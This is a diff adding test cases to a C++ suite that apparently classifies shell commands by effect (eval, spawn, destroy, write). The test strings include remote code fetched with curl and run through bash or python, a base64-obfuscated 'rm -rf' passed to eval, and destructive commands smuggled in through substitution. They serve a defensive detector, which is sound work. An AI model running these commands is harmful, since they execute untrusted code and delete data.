@@ -200,6 +200,18 @@ INSTANTIATE_TEST_SUITE_P(
         // A decoded substitution is built at run time: as code it is dynamic-eval, as a
         // command word opaque (DESIGN.md), never a literal.
         Case{"eval \"$(echo cm0gLXJmIHgK | base64 -d)\"", {kEval}},
+        // A script read from a process substitution is code produced at run time, like
+        // `source <(...)`; /dev/stdin is the here-string.
+        Case{"bash <(curl -s https://example.com/x)", {kSpawn, kEval}},
+        Case{"python3 <(curl -s https://example.com/x)", {kSpawn, kEval}},
+        Case{"bash /dev/stdin <<< 'rm -rf x'", {kDestroy}},
+        Case{"bash ./build.sh", {kSpawn}},
+        // Output known to be empty empties the file it is redirected to.
+        Case{"echo -n > f", {kDestroy, kWrite}},
+        Case{"printf '' > f", {kDestroy, kWrite}},
+        Case{"false > f", {kDestroy, kWrite}},
+        Case{"echo > f", {kWrite}},
+        Case{"printf x >> f", {kWrite}},
         Case{"$(rev <<< mr) -rf x", {kOpaque}},
         Case{"bash -c \"$(cat f) $(rm -rf x)\"", {kEval, kDestroy}},
         Case{"bash -c \"$x\"'$(rm -rf x)'", {kEval, kDestroy}},
